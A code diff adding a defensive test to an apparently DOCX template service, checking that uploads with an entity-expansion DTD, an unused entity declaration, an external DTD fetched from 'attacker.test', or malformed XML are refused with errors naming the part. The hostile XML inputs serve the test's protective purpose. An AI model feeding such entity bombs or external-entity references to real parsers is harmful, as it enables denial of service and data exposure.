@@ -236,6 +236,32 @@ async def test_malicious_uploads_are_refused_clearly_and_the_service_keeps_answe
         assert (await upload(http, docx_with("Dear {{ name }}"))).status_code == 201
 
 
+async def test_an_entity_declaration_or_broken_xml_in_a_part_is_refused_naming_the_part(service):
+    """A DTD in [Content_Types].xml (where entity bombs and external entities live) used to answer 500."""
+    honest = docx_with("Dear {{ name }}")
+    content_types = zipfile.ZipFile(io.BytesIO(honest)).read("[Content_Types].xml").decode()
+    declaration, rest = content_types.split("?>", 1)
+    entities = '<!DOCTYPE Types [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
+    async with client(service) as http:
+        for evil in (
+            declaration + "?>" + entities + rest.replace("<Default", "&b;<Default", 1),
+            declaration + "?>" + entities + rest,  # declared, never used
+            declaration + '?><!DOCTYPE Types SYSTEM "http://attacker.test/types.dtd">' + rest,
+        ):
+            detail = refused(await upload(http, rezip(honest, {"[Content_Types].xml": evil.encode()})))
+            assert detail["loc"] == ["body", "file"]
+            assert detail["ctx"] == {"part": "[Content_Types].xml"}
+            assert detail["msg"] == (
+                "part [Content_Types].xml of the document declares a DTD or entities (<!DOCTYPE>), which a DOCX never has"
+            )
+
+        styles = refused(await upload(http, rezip(honest, {"word/styles.xml": b"<w:styles><unclosed>"})))
+        assert styles["ctx"] == {"part": "word/styles.xml"}
+        assert styles["msg"].startswith("part word/styles.xml of the document is not well-formed XML")
+        assert (await http.get("/templates", headers=ACME)).json()["total"] == 0
+        assert (await upload(http, honest)).status_code == 201
+
+
 async def test_deleting_a_template_removes_every_version_and_file(service):
     async with client(service) as http:
         v1 = (await upload(http, docx_with("{{ name }}"))).json()
